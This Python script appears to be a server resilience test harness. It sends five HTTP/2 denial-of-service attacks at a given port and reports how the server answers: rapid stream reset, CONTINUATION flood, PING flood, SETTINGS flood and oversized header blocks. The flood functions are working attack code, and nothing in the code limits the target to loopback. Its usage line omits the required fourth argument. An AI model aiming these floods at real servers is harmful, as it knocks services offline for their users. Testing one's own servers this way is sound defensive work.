"""HTTP/2 attacks on one of our ports, frame by frame (hyperframe, hpack), against loopback
only and bounded in count and time. Prints one JSON object: what the server answered.

Usage: python h2_attacks.py ATTACK HOST PORT
ATTACK: rapid-reset | continuation-flood | ping-flood | settings-flood | oversized-headers
"""

import json
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
READ_LIMIT_SECONDS = 10
# A server that stays quiet this long after the attack has said all it will say.
QUIET_SECONDS = 1.5


def request_headers(port_kind: str, extra=()):
    if port_kind == "grpc":
        base = [(":method", "POST"), (":scheme", "http"), (":path", "/helloworld.Greeter/SayHello"),
                (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
    else:
        base = [(":method", "GET"), (":scheme", "http"), (":path", "/healthz"), (":authority", "localhost")]
    return base + list(extra)


def connect(host, port):
    sock = socket.create_connection((host, port), timeout=READ_LIMIT_SECONDS)
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    return sock


def send_all(sock, chunks):
    """Sends frames; a server that closes mid-flood is an answer, not an error."""
    sent = 0
    try:
        for chunk in chunks:
            sock.sendall(chunk)
            sent += 1
    except (BrokenPipeError, ConnectionResetError):
        pass
    return sent


def read_answer(sock):
    """Reads frames until the server closes or READ_LIMIT_SECONDS pass."""
    answer = {"goaway_error_code": None, "closed": False, "rst_stream_codes": [], "response_statuses": [], "pings_acked": 0}
    buffer = b""
    deadline = time.monotonic() + READ_LIMIT_SECONDS
    decoder = None
    from hpack import Decoder
    decoder = Decoder()
    decoder.max_allowed_table_size = 65536
    while time.monotonic() < deadline:
        try:
            sock.settimeout(max(0.05, min(QUIET_SECONDS, deadline - time.monotonic())))
            data = sock.recv(65536)
        except socket.timeout:
            break
        except (ConnectionResetError, OSError):
            answer["closed"] = True
            break
        if not data:
            answer["closed"] = True
            break
        buffer += data
        while len(buffer) >= 9:
            frame, length = Frame.parse_frame_header(buffer[:9])
            if len(buffer) < 9 + length:
                break
            frame.parse_body(memoryview(buffer[9:9 + length]))
            buffer = buffer[9 + length:]
            if isinstance(frame, GoAwayFrame):
                answer["goaway_error_code"] = frame.error_code
            elif isinstance(frame, RstStreamFrame):
                answer["rst_stream_codes"].append(frame.error_code)
            elif isinstance(frame, PingFrame) and "ACK" in frame.flags:
                answer["pings_acked"] += 1
            elif isinstance(frame, HeadersFrame):
                try:
                    headers = dict(decoder.decode(frame.data))
                    status = headers.get(b":status") or headers.get(":status")
                    if status:
                        answer["response_statuses"].append(int(status))
                except Exception:  # noqa: BLE001 - a header block split over CONTINUATIONs
                    pass
    answer["rst_stream_codes"] = sorted(set(answer["rst_stream_codes"]))
    answer["response_statuses"] = sorted(set(answer["response_statuses"]))
    return answer


def rapid_reset(sock, port_kind, count=2000):
    encoder = Encoder()
    frames = []
    for i in range(count):
        stream_id = 2 * i + 1
        headers = HeadersFrame(stream_id, encoder.encode(request_headers(port_kind)), flags=["END_HEADERS"])
        frames.append(headers.serialize() + RstStreamFrame(stream_id, error_code=8).serialize())
    # Batches of 100 frames per write, as a real attacker packs them.
    return send_all(sock, [b"".join(frames[i:i + 100]) for i in range(0, len(frames), 100)])


def continuation_flood(sock, port_kind, count=10000):
    encoder = Encoder()
    first = HeadersFrame(1, encoder.encode(request_headers(port_kind)))  # no END_HEADERS
    chunks = [first.serialize()]
    for i in range(count):
        block = encoder.encode([(f"x-flood-{i}", "v" * 1000)])
        chunks.append(ContinuationFrame(1, block).serialize())
    return send_all(sock, [b"".join(chunks[i:i + 50]) for i in range(0, len(chunks), 50)])


def ping_flood(sock, port_kind, count=100000):
    ping = PingFrame(0, opaque_data=b"12345678").serialize()
    return send_all(sock, [ping * 1000 for _ in range(count // 1000)])


def settings_flood(sock, port_kind, count=100000):
    settings = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()
    return send_all(sock, [settings * 1000 for _ in range(count // 1000)])


def oversized_headers(sock, port_kind):
    encoder = Encoder()
    # Far past what the HTTP/2 stack buffers (twice --max-header-bytes plus 8 KiB, 40 KiB by
    # default; a block between the limit and that gets a 431 in the API's shape instead).
    block = encoder.encode(request_headers(port_kind, [("x-huge", "h" * (160 * 1024))]))
    first, rest = block[:16000], block[16000:]
    chunks = [HeadersFrame(1, first, flags=["END_STREAM"]).serialize()]
    while rest:
        piece, rest = rest[:16000], rest[16000:]
        chunks.append(ContinuationFrame(1, piece, flags=[] if rest else ["END_HEADERS"]).serialize())
    return send_all(sock, chunks)


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation_flood,
    "ping-flood": ping_flood,
    "settings-flood": settings_flood,
    "oversized-headers": oversized_headers,
}


def main(attack, host, port, port_kind):
    sock = connect(host, int(port))
    sent = ATTACKS[attack](sock, port_kind)
    answer = read_answer(sock)
    answer["writes_sent"] = sent
    sock.close()
    print(json.dumps(answer))


if __name__ == "__main__":
    main(*sys.argv[1:5])
